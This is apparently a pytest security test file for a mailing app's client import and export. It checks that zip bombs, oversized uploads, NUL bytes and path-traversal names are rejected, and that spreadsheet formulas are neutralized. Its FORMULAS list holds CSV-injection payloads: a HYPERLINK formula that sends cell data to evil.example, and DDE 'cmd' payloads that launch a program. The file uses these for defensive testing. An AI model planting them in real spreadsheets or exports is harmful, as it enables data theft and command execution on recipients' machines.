"""Test that hostile files are read in bounded time and memory, and formulas are neutralized."""

import csv
import gc
import io
import os
import random
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from typing import BinaryIO

import pytest
from flask import Flask, request
from flask.testing import FlaskClient
from sqlalchemy import delete, select
from sqlalchemy.orm import Session
from werkzeug.exceptions import RequestEntityTooLarge
from werkzeug.test import EnvironBuilder

from skymailing.clients.files.csv_reader import read_records
from skymailing.clients.imports import open_table
from skymailing.errors import SkyMailingError
from skymailing.models import Client, ClientImport, ImportState, User
from tests.support.factories import ClientFactory
from tests.support.imports import import_file

# Large uploads use temporary files that Python closes at garbage collection; tests would warn about that.
UNCLOSED_FILE_WARNING = "ignore::pytest.PytestUnraisableExceptionWarning"
pytestmark = [pytest.mark.one_engine, pytest.mark.filterwarnings(UNCLOSED_FILE_WARNING)]

Work = Callable[[], None]
MEGABYTE = 1024 * 1024
IMPORT = "/clients/import"


class GeneratedFile(io.RawIOBase):
    """A file of `size` bytes that is generated while being read: a header, then one repeated fragment."""

    def __init__(self, size: int, head: bytes, fragment: bytes) -> None:
        self.size, self.head = size, head
        self.fragment = fragment * max(1, 65_536 // len(fragment))
        self.position = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def tell(self) -> int:
        return self.position

    def seek(self, offset: int, whence: int = os.SEEK_SET) -> int:
        self.position = offset if whence == os.SEEK_SET else self.position + offset
        return self.position

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]  # typeshed expects any buffer
        wanted = min(len(buffer), self.size - self.position)
        if wanted <= 0:
            return 0
        if self.position < len(self.head):
            part = self.head[self.position : self.position + wanted]
        else:
            start = (self.position - len(self.head)) % len(self.fragment)
            part = self.fragment[start : start + wanted]
        buffer[: len(part)] = part
        self.position += len(part)
        return len(part)


@pytest.fixture(autouse=True)
def drop_uploads() -> Iterator[None]:
    """Drop the temporary files of uploads here, where the warning about them is ignored."""
    gc.freeze()  # look for garbage only among the test's own objects
    yield
    gc.collect()


@pytest.fixture
def memory() -> Iterator[Callable[[], int]]:
    """Return a function that returns Python's peak memory since the start of the test, in bytes."""
    tracemalloc.start()
    yield lambda: tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()


def read_all(source: BinaryIO) -> tuple[int, set[object]]:
    """Read all records; return their number and the faults found."""
    count = 0
    faults: set[object] = set()
    for record in read_records(source):
        count += 1
        faults.add(record.fault)
        assert sum(map(len, record.cells)) < 200_000
    return count, faults


@pytest.mark.parametrize("megabytes", [100, pytest.param(1024, marks=pytest.mark.soak)])
def test_a_huge_line_is_read_in_bounded_memory(megabytes: int) -> None:
    """Run in a separate process to measure only its memory; the bytes are generated while being read."""
    program = (
        "import io, resource\n"
        "from skymailing.clients.files.csv_reader import read_records\n"
        "from tests.security.test_imports import GeneratedFile\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        f"source = io.BufferedReader(GeneratedFile({megabytes} << 20, b'email,name\\n', b'x'), 1 << 20)\n"
        "records = list(read_records(source))\n"
        "assert [str(r.fault) for r in records] == ['None', 'line_too_long'], records[:3]\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, timeout=120, check=False
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert int(result.stdout) < 30 * 1024, "kilobytes"


@pytest.mark.parametrize(
    "fragment", [b'"', b'","', b",", b"\0", b"\xff", b'a@example.com,"x\n', "ы".encode("utf-16")]
)
def test_endless_input_is_read_in_bounded_memory(memory: Callable[[], int], fragment: bytes) -> None:
    source = io.BufferedReader(GeneratedFile(MEGABYTE // 4, b"email,name\n", fragment))
    read_all(source)
    assert memory() < 3 * MEGABYTE


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"email" + b",c" * 1_000_000, "columns"),
        (b"email," + b"x" * 10 * MEGABYTE, "address"),
        (b",".join(b"c%d" % n for n in range(200)) + b"\n" + b"x," * 200, "columns"),
        (b"\n" * 100_000, "empty"),
        (b",;\0 \r\n" * 20_000, "empty"),
        (b"\xff\xfe" + b"\n\0" * 70_000, "empty"),
        (b"email" + b"\n" * 2_000_001, "1,000,000 rows"),
        (b"email" + b"\r" * 2_000_001, "1,000,000 rows"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100, "address"),
    ],
)
def test_a_file_without_a_table_is_rejected_with_the_reason(
    browser: FlaskClient, session: Session, memory: Callable[[], int], head: bytes, expected: str
) -> None:
    response = browser.post(IMPORT, data={"file": (io.BytesIO(head + b"\n1@example.com\n"), "x.csv")})
    assert response.status_code == 200
    error = response.text.partition('id="file-error"')[2][:400]
    assert error, response.text
    assert expected in error
    assert session.scalar(select(ClientImport)) is None
    assert memory() < 4 * len(head) + 30 * MEGABYTE


@pytest.mark.parametrize("name", ["clients.csv", "clients.xlsx", "../../etc/passwd", "x.csv\0.zip"])
def test_a_zip_with_another_name_is_not_unpacked(
    browser: FlaskClient, session: Session, name: str, memory: Callable[[], int]
) -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"0" * 50 * MEGABYTE)
    response = browser.post(IMPORT, data={"file": (io.BytesIO(bomb.getvalue()), name)})
    assert "takes up too much memory" in response.text
    assert session.scalar(select(ClientImport)) is None


def test_a_broken_row_does_not_affect_other_rows(
    browser: FlaskClient, user: User, session: Session, work: Work
) -> None:
    rows = [
        b"email,full_name,note",
        b"good1@example.com,Anna,x",
        b"nul@example.com,An\0na,\0",
        b"bad\0@example.com,Nul,x",
        b"\xff\xfe\xfd@example.com,Latin,x",
        b"half@example.com,\xd0,x",
        b"long@example.com," + b"x" * 100_000 + b",x",
        b'quote@example.com,"never closed,x',
        b"good2@example.com,Anna,x",
        b"a@example.com\r\nBcc: b@example.com,Header,x",
        b"good3@example.com," + "Анна".encode() + b",x",
    ]
    assert import_file(browser, b"\n".join(rows)).status_code == 302
    work()
    import_ = session.scalars(select(ClientImport)).one()
    assert import_.state is ImportState.FINISHED
    addresses = set(session.scalars(select(Client.email)))
    assert {"good1@example.com", "good2@example.com", "good3@example.com"} <= addresses
    for client in session.scalars(select(Client)):
        assert "\0" not in client.email + client.full_name + str(client.attributes)
        assert "\n" not in client.email + client.full_name
        assert "\ufffd" not in client.full_name
    assert import_.rejected >= 4
    page = browser.get(f"/clients/imports/{import_.id}")
    assert page.status_code == 200


def test_random_bytes_are_read_as_a_table_or_rejected() -> None:
    generator = random.Random(7)
    alphabet = [
        b'"',
        b",",
        b";",
        b"\n",
        b"\r",
        b"\0",
        b"\xff",
        b"\xd0",
        b"a@b.example",
        b"email",
        b" ",
        b"\t",
        b"=",
    ]
    for _ in range(400):
        content = b"".join(generator.choices(alphabet, k=generator.randrange(1, 60)))
        try:
            _, records = open_table(io.BytesIO(content))
            list(records)
        except SkyMailingError:
            continue


class UploadStream(io.RawIOBase):
    """An upload of unlimited size that counts the bytes read."""

    bytes_read = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]  # typeshed expects any buffer
        self.bytes_read += len(buffer)
        buffer[:] = b"x" * len(buffer)
        return len(buffer)


def test_a_large_upload_is_rejected_before_it_is_read(app: Flask, user: User) -> None:
    stream = UploadStream()
    content_type = "multipart/form-data; boundary=x"
    environ = EnvironBuilder(IMPORT, method="POST", content_type=content_type).get_environ()
    environ |= {"wsgi.input": stream, "CONTENT_LENGTH": str(10 * 1024 * MEGABYTE)}
    with app.request_context(environ), pytest.raises(RequestEntityTooLarge):
        _ = request.files
    assert stream.bytes_read < MEGABYTE


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "=",
]


def test_formulas_are_exported_as_text_and_imported_unchanged(
    app: Flask, browser: FlaskClient, user: User, session: Session, work: Work
) -> None:
    for number, formula in enumerate(FORMULAS):
        ClientFactory.create(
            owner=user,
            email=f"f{number}@example.com",
            full_name=formula.strip(),
            comment=formula,
            attributes={"city": formula.strip()},
        )
    before = {row.email: (row.full_name, row.attributes) for row in session.scalars(select(Client))}
    exported = browser.get("/clients/export").data
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert len(rows) == len(FORMULAS) + 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    session.execute(delete(Client))
    import_file(browser, exported)
    work()
    session.expire_all()
    after = {row.email: (row.full_name, row.attributes) for row in session.scalars(select(Client))}
    assert after == before


def test_formulas_in_rejected_rows_are_exported_as_text(
    browser: FlaskClient, user: User, session: Session, work: Work
) -> None:
    table = io.StringIO()
    csv.writer(table).writerows([("email", "full_name"), *(("no address", text) for text in FORMULAS)])
    import_file(browser, table.getvalue().encode())
    work()
    import_ = session.scalars(select(ClientImport)).one()
    text = browser.get(f"/clients/imports/{import_.id}/rejections.csv").data.decode("utf-8-sig")
    for cell in (cell for row in csv.reader(io.StringIO(text)) for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
